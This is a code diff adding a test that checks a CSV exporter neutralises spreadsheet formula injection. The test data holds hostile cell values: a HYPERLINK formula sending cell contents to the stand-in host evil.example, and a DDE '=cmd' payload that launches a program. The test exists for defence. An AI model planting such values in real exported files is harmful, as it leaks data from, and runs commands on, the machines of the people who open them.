@@ -35,3 +35,23 @@ describe('CSV export', () => {
     );
   });
 });
+
+describe('CSV export of hostile values', () => {
+  it('keeps every free-text cell inert — region, period, unit and note too — and the vocabulary as it is', () => {
+    const csv = toCsv([
+      {
+        record: rec({ region: '=HYPERLINK("http://evil.example/?d="&A1,"详情")', period: '+2023', unit: '=1+1', label: '@SUM(A1)' }),
+        source: { url: 'https://x/', title: 't' },
+        note: '=cmd|" /C calc"!A0',
+      },
+    ]);
+    const cells = csv.slice(1).split('\r\n')[1]!;
+    expect(cells).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")"`);
+    expect(cells).toContain("'+2023");
+    expect(cells).toContain("'=1+1");
+    expect(cells).toContain("'@SUM(A1)");
+    expect(cells).toContain(`"'=cmd|"" /C calc""!A0"`);
+    // The comparator column keeps the spec's vocabulary.
+    expect(cells.split(',')[5]).toBe('=');
+  });
+});
